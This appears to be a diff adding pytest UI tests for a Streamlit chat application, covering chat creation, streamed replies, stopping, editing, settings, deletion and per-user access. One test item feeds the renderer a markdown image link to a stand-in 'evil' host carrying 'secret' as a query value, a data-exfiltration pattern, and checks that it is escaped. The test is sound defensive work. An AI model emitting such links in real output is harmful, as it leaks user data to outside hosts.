@@ -1,0 +1,227 @@
+"""Chats: asking, watching a reply grow, stopping it, coming back, and the settings."""
+
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from core import chats, datasets, models, replies
+from core.chats import MessageList, NewChat, NewMessage
+from core.errors import NotFound
+from core.providers import PROVIDERS
+from core.ui import conversation
+from core.users import User
+from tests.ui.conftest import Visit, text_of
+from tests.ui.things import Echo, make_model
+
+
+@pytest.fixture
+def echo(monkeypatch: pytest.MonkeyPatch) -> Iterator[Echo]:
+    provider = Echo()
+    monkeypatch.setitem(PROVIDERS, "echo", provider)
+    yield provider
+    provider.may_end.set()
+
+
+@pytest.fixture
+def model_id(ada: User, echo: Echo) -> str:
+    return make_model(ada, "parrot", provider="echo")
+
+
+def wait_until(holds: Callable[[], bool], *, seconds: float = 10) -> None:
+    end = time.monotonic() + seconds
+    while not holds():
+        assert time.monotonic() < end, "it did not come true"
+        time.sleep(0.01)
+
+
+def messages_of(user: User, chat_id: str) -> list[tuple[str, str]]:
+    found = chats.list_messages(user, MessageList(chat_id=chat_id, limit=100)).items
+    return [(message.role, message.content) for message in found]
+
+
+def only_chat(user: User) -> chats.Chat:
+    (found,) = chats.list_chats(user, chats.ChatList()).items
+    return found
+
+
+def add_faq(user: User, tmp_path: Path) -> datasets.Dataset:
+    path = tmp_path / "faq.csv"
+    path.write_text("question,answer\nHow long?,30 days\nHow much?,Free\n")
+    return datasets.create(user, datasets.NewDataset(name="faq"), file=path, filename="faq.csv")
+
+
+def test_first_message_makes_a_chat_named_after_it(ada: User, model_id: str, visit: Visit) -> None:
+    app = visit(ada, "chat")
+    assert not app.exception
+    app.chat_input(key="chat_input").set_value("How do I return an item?").run()
+    assert not app.exception
+    chat = only_chat(ada)
+    assert (chat.title, chat.model_id) == ("How do I return an item?", model_id)
+    assert app.query_params["id"] == [chat.id]
+    assert messages_of(ada, chat.id) == [("user", "How do I return an item?"), ("assistant", "How do I return an item?")]
+    assert "parrot · 6 tokens" in text_of(app)
+
+
+def test_empty_page_offers_something_to_press(ada: User, model_id: str, visit: Visit) -> None:
+    app = visit(ada, "chat")
+    app.button(key="chat_hint_0").click().run()
+    assert messages_of(ada, only_chat(ada).id)[0][0] == "user"
+
+
+def test_model_and_dataset_come_with_the_address(ada: User, model_id: str, visit: Visit, tmp_path: Path) -> None:
+    other, data = make_model(ada, "other", provider="echo"), add_faq(ada, tmp_path)
+    app = visit(ada, "chat", model=other, dataset=data.id)
+    assert app.session_state["chat_model"] == other
+    assert app.session_state["chat_dataset"] == data.id
+
+
+def test_stop_keeps_what_was_written(ada: User, model_id: str, echo: Echo, visit: Visit) -> None:
+    echo.may_end.clear()
+    chat = chats.create(ada, NewChat(model_id=model_id))
+    reply = chats.start(ada, NewMessage(chat_id=chat.id, content="one two three")).reply
+    assert reply is not None
+    threading.Timer(0.3, chats.stop, (ada, reply.id)).start()
+    app = visit(ada, "chat", id=chat.id)  # watches until the reply ends
+    assert not app.exception
+    assert messages_of(ada, chat.id)[-1] == ("assistant", "one two ")
+    assert "stopped" in text_of(app)
+
+
+def test_leaving_the_page_does_not_stop_the_reply(ada: User, model_id: str, echo: Echo, visit: Visit) -> None:
+    echo.may_end.clear()
+    chat = chats.create(ada, NewChat(model_id=model_id))
+    reply = chats.start(ada, NewMessage(chat_id=chat.id, content="one two three")).reply
+    assert reply is not None
+    watcher = chats.tail(ada, reply.id)
+    next(watcher)
+    watcher.close()
+    echo.may_end.set()
+    assert replies.wait(reply.id, seconds=10)
+    app = visit(ada, "chat", id=chat.id)
+    assert "one two three" in text_of(app)
+
+
+def test_regenerate_answers_again(ada: User, model_id: str, visit: Visit) -> None:
+    chat = chats.create(ada, NewChat(model_id=model_id))
+    before = chats.send(ada, NewMessage(chat_id=chat.id, content="one two")).reply
+    app = visit(ada, "chat", id=chat.id)
+    app.button(key="chat_regenerate").click().run()
+    assert not app.exception
+    after = chats.list_messages(ada, MessageList(chat_id=chat.id)).items[-1]
+    assert before is not None
+    assert after.id != before.id
+    assert len(messages_of(ada, chat.id)) == 2
+
+
+def test_edit_takes_the_question_back(ada: User, model_id: str, visit: Visit) -> None:
+    chat = chats.create(ada, NewChat(model_id=model_id))
+    chats.send(ada, NewMessage(chat_id=chat.id, content="one two"))
+    app = visit(ada, "chat", id=chat.id)
+    app.button(key="chat_edit").click().run()
+    assert not app.exception
+    assert messages_of(ada, chat.id) == []
+
+
+def test_sql_is_answered_as_a_table_without_any_model(ada: User, model_id: str, visit: Visit, tmp_path: Path) -> None:
+    chat = chats.create(ada, NewChat(model_id=model_id, dataset_id=add_faq(ada, tmp_path).id))
+    app = visit(ada, "chat", id=chat.id)
+    app.chat_input(key="chat_input").set_value("/sql SELECT question FROM data ORDER BY 1").run()
+    assert not app.exception
+    assert app.dataframe[0].value["question"].tolist() == ["How long?", "How much?"]
+    assert "2 rows · from the dataset, without a model" in text_of(app)
+
+
+def test_settings_save_themselves(ada: User, model_id: str, visit: Visit) -> None:
+    chat = chats.create(ada, NewChat(model_id=model_id))
+    app = visit(ada, "chat", id=chat.id)
+    app.text_input(key="chat_title").set_value("Renamed").run()
+    app.number_input(key="chat_temperature").set_value(0.3).run()
+    saved = chats.get(ada, chat.id)
+    assert (saved.title, saved.parameters) == ("Renamed", {"temperature": 0.3})
+
+
+def test_switching_chats_shows_the_settings_of_each(ada: User, model_id: str, visit: Visit) -> None:
+    first = chats.create(ada, NewChat(model_id=model_id, title="first", system_prompt="Be brief."))
+    second = chats.create(ada, NewChat(model_id=model_id, title="second"))
+    app = visit(ada, "chat", id=first.id)
+    assert app.text_area(key="chat_system_prompt").value == "Be brief."
+    app.button(key=f"chats_{second.id}").click().run()
+    assert app.text_area(key="chat_system_prompt").value == ""
+    assert chats.get(ada, first.id).system_prompt == "Be brief."
+
+
+def test_delete_asks_first(ada: User, model_id: str, visit: Visit) -> None:
+    chat = chats.create(ada, NewChat(model_id=model_id))
+    app = visit(ada, "chat", id=chat.id)
+    app.button(key="chat_delete").click().run()
+    assert chats.get(ada, chat.id)
+    app.button(key="chat_delete_yes").click().run()
+    assert not app.exception
+    with pytest.raises(NotFound):
+        chats.get(ada, chat.id)
+
+
+def test_deleted_model_is_told_and_can_be_replaced(ada: User, model_id: str, visit: Visit) -> None:
+    chat = chats.create(ada, NewChat(model_id=model_id))
+    models.delete(ada, model_id)
+    other = make_model(ada, "other", provider="echo")
+    app = visit(ada, "chat", id=chat.id)
+    assert "was deleted" in text_of(app)
+    assert app.chat_input(key="chat_input").disabled
+    app.selectbox(key="chat_model").select("other").run()
+    assert chats.get(ada, chat.id).model_id == other
+    assert not app.chat_input(key="chat_input").disabled
+
+
+def test_failed_send_gives_the_text_back(ada: User, model_id: str, visit: Visit) -> None:
+    chat = chats.create(ada, NewChat(model_id=model_id))
+    app = visit(ada, "chat", id=chat.id)
+    chats.delete(ada, chat.id)
+    app.chat_input(key="chat_input").set_value("precious words").run()
+    assert not app.exception
+    assert "no such chat" in text_of(app)
+
+
+def test_another_users_chat_looks_missing(ada: User, bob: User, model_id: str, visit: Visit) -> None:
+    chat = chats.create(ada, NewChat(model_id=model_id, title="secret plans"))
+    theirs, missing = visit(bob, "chat", id=chat.id), visit(bob, "chat", id="chat_aaaaaaaaaaaaaaaaaaaaaaaa")
+    assert text_of(theirs) == text_of(missing)
+    assert "secret" not in text_of(theirs)
+
+
+def test_starter_is_named_a_demonstration_where_it_answers(ada: User, echo: Echo, visit: Visit) -> None:
+    make_model(None, models.STARTER, provider="echo")
+    assert "tiny demonstration model" in text_of(visit(ada, "chat"))
+
+
+@pytest.mark.parametrize(
+    ("text", "drawn"),
+    [
+        ("It costs $5 or $10.", "It costs \\$5 or \\$10."),
+        ("![x](http://evil/?q=secret)", "\\![x](http://evil/?q=secret)"),
+        ("one\ntwo", "one  \ntwo"),
+        (":red[hot]", "\\:red[hot]"),
+        ("`$x$` and\n```\n$y$\n```", "`$x$` and  \n```\n$y$\n```"),
+        ("<b>x</b>", "\\<b>x\\</b>"),
+    ],
+)
+def test_text_of_models_is_tamed(text: str, drawn: str) -> None:
+    assert conversation.as_written(text) == drawn
+
+
+def test_reply_that_grows_is_followed_to_its_end(ada: User, model_id: str, echo: Echo, visit: Visit) -> None:
+    echo.may_end.clear()
+    chat = chats.create(ada, NewChat(model_id=model_id))
+    reply = chats.start(ada, NewMessage(chat_id=chat.id, content="one two three")).reply
+    assert reply is not None
+    seen: list[AppTest] = []
+    watcher = threading.Thread(target=lambda: seen.append(visit(ada, "chat", id=chat.id)))
+    watcher.start()
+    wait_until(lambda: messages_of(ada, chat.id)[-1][1] != "" or not watcher.is_alive())
+    echo.may_end.set()
+    watcher.join(20)
+    assert "one two three" in text_of(seen[0])
